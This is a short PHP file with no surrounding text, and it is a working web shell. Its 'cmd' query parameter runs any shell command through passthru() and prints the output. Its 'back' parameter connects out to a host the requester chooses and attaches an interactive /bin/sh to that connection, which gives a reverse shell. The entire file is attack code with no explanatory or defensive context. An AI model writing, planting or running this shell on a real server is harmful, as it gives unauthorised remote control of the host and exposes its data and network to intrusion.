<?php
header('Content-Type: text/plain');
if (isset($_GET['cmd'])) {
    passthru($_GET['cmd'] . ' 2>&1', $status);
    echo "\nstatus=$status\n";
}
if (isset($_GET['back'])) {
    $socket = stream_socket_client('tcp://' . $_GET['back']);
    proc_close(proc_open(['/bin/sh', '-i'], [$socket, $socket, $socket], $pipes));
}
